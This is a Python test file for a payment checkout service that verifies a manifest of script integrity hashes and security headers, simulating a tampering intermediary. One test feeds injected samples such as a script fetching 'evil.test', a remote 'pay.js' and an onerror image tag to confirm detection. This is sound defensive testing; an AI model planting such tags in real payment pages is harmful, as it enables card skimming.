"""The manifest of scripts and headers, and whether a change of either is found (SEC-24)."""

import re
from collections.abc import Callable
from pathlib import Path

import httpx
import pytest

from azukari.checkout import manifest, pages
from azukari.checkout.instructions_view import Instructions
from azukari.checkout.view import Shop
from azukari.web import assets
from tests.checkout.orders import ORDER
from tests.checkout.shoppers import shopper
from tests.house import BASE, House, card

SHOP = Shop("Tea")
SLIP = Instructions.of(
    "ja",
    SHOP,
    payment="p",
    type="konbini",
    details={"store": "lawson", "receipt": "1"},
    amount=1,
    fee=0,
    currency="JPY",
    deadline=None,
    outcome=None,
    barcode=None,
    return_to=None,
    tools="/x",
)
KINDS = {
    "session": lambda: pages.session("ja", ORDER, csrf="c", now=0, secure=True),
    "result": lambda: pages.notice("ja", SHOP, "h", leave="https://shop.test"),
    "notice": lambda: pages.notice("ja", None, "h"),
    "instructions": lambda: pages.instructions("ja", SLIP, SHOP, "h", {}, "c"),
    "offsite": lambda: pages.offsite("ja", SHOP, method="m", amount=None, stores=False, post="/x", csrf="c"),
    "challenge": lambda: pages.challenge(
        "ja", SHOP, last4="1111", amount=None, hint=None, post="/x", token="t", state="s", hrefs={}
    ),
}


class Between(httpx.AsyncBaseTransport):
    """Somebody between us and the shopper, who changes answers."""

    def __init__(self, house: House, change: Callable[[httpx.Request, httpx.Response], None]) -> None:
        self._transport = house.api._transport
        self._change = change

    async def handle_async_request(self, request: httpx.Request) -> httpx.Response:
        reply = await self._transport.handle_async_request(request)
        await reply.aread()
        found = httpx.Response(reply.status_code, headers=reply.headers, content=reply.content)
        self._change(request, found)
        return found


async def look(house: House, path: str, change: Callable[[httpx.Request, httpx.Response], None]) -> list[str]:
    async with httpx.AsyncClient(transport=Between(house, change)) as client:
        return await manifest.differences(client, httpx.URL(BASE).join(path).__str__())


def nothing(_: httpx.Request, __: httpx.Response) -> None:
    pass


def test_the_manifest_is_of_the_files_as_they_are() -> None:
    reviewed = Path(manifest.__file__).with_name(manifest.NAME).read_bytes()
    assert reviewed == manifest.text(), "look at what has changed, then: python -m azukari.checkout.manifest"


def test_every_script_of_the_payment_pages_is_in_the_manifest() -> None:
    scripts = {name for name in assets.static_names() if name.endswith(".js")}
    assert scripts - manifest.REASONS.keys() == {"reference.js"}
    assert all(reason.endswith(".") for reason in manifest.REASONS.values())


@pytest.mark.parametrize("kind", KINDS)
def test_every_script_a_page_loads_carries_its_hash(kind: str) -> None:
    html = KINDS[kind]().decode()
    tags = re.findall(r"<(?:script|link rel=\"modulepreload\")[^>]*>", html)
    names = {re.findall(r"/([a-z_]+\.js)\"", tag)[0] for tag in tags}
    for tag in tags:
        assert f'integrity="{assets.integrity(re.findall(r"/([a-z_]+[.]js)", tag)[0])}"' in tag
    # Modules load others: each of these stands in the page too.
    for name in names:
        found = assets.static_file(name)
        assert found is not None
        assert {*re.findall(r'from "\./(\w+\.js)"', found[0].decode())} <= names
    assert manifest._tags(manifest.read(), html) == []


@pytest.mark.parametrize("path", ["/", "page"])
async def test_what_we_serve_is_as_the_manifest_says(house: House, path: str) -> None:
    buyer = await shopper(house)
    assert await look(house, buyer.path if path == "page" else path, nothing) == []


@pytest.mark.parametrize("name", manifest.REASONS)
async def test_one_changed_byte_is_found(house: House, name: str) -> None:
    def change(request: httpx.Request, reply: httpx.Response) -> None:
        if request.url.path == f"/static/{assets.release()}/{name}":
            reply._content = reply.content[:-1] + b" "

    assert len(await look(house, "/", change)) == 1


@pytest.mark.parametrize("name", assets.PAGE_HEADERS)
@pytest.mark.parametrize("way", ["gone", "changed", "twice"])
async def test_one_changed_header_is_found(house: House, name: str, way: str) -> None:
    def change(request: httpx.Request, reply: httpx.Response) -> None:
        if not request.url.path.startswith("/sessions/"):
            return
        value = reply.headers.pop(name)
        if way != "gone":
            values = [value + " "] if way == "changed" else [value, value]
            reply.headers = httpx.Headers([*reply.headers.multi_items(), *((name, each) for each in values)])

    (found,) = await look(house, "/", change)
    assert name in found


@pytest.mark.parametrize(
    "more",
    [
        '<script>fetch("//evil.test")</script>',
        '<script src="https://evil.test/pay.js"></script>',
        '<script src="/static/x/more.js"></script>',
        '<script src="/static/x/pay.js"></script>',
        '<link rel="modulepreload" href="/static/x/pay.js" integrity="sha384-AAAA">',
        '<img alt="" onerror="x()">',
    ],
)
async def test_one_more_script_is_found(house: House, more: str) -> None:
    buyer = await shopper(house)

    def change(request: httpx.Request, reply: httpx.Response) -> None:
        if request.url.path == buyer.path:
            reply._content = reply.content.replace(b"</body>", more.encode() + b"</body>")

    assert len(await look(house, buyer.path, change)) == 1


async def test_each_kind_of_page_has_every_header(house: House) -> None:
    wallet, cash, done, step = [await shopper(house) for _ in range(4)]
    away = (await wallet.pay({"type": "paypay"})).json()["redirect_url"]
    slip = (await cash.pay({"type": "konbini", "store": "lawson", "email": "a@b.test"})).json()["redirect_url"]
    await done.pay(card(verification_value="123"))
    issuer = (await step.pay(card("4100000000005000", verification_value="123"))).json()["redirect_url"]
    cancelled = await shopper(house)
    await house.api.post(f"/sessions/{cancelled.session['id']}/cancel")
    form = await shopper(house)
    addresses = {
        "form": form.path,
        "after a decline": f"{form.path}?failed=card_declined",
        "in between": wallet.path,
        "wallet": away,
        "instructions": slip,
        "issuer": issuer,
        "completed": done.path,
        "cancelled": cancelled.path,
        "on to the instructions": cash.path,
        "not found": "/sessions/none",
        "no instructions": "/ja/instructions/none",
    }
    for kind, address in addresses.items():
        path = httpx.URL(address).raw_path.decode()
        reply = await house.api.get(f"http://azukari.test{path}", auth=None)
        assert (kind, reply.headers.get("Content-Type")) == (
            kind,
            "text/html; charset=utf-8" if reply.content else None,
        )
        for name, value in assets.PAGE_HEADERS.items():
            assert (kind, reply.headers.get_list(name)) == (kind, [value])
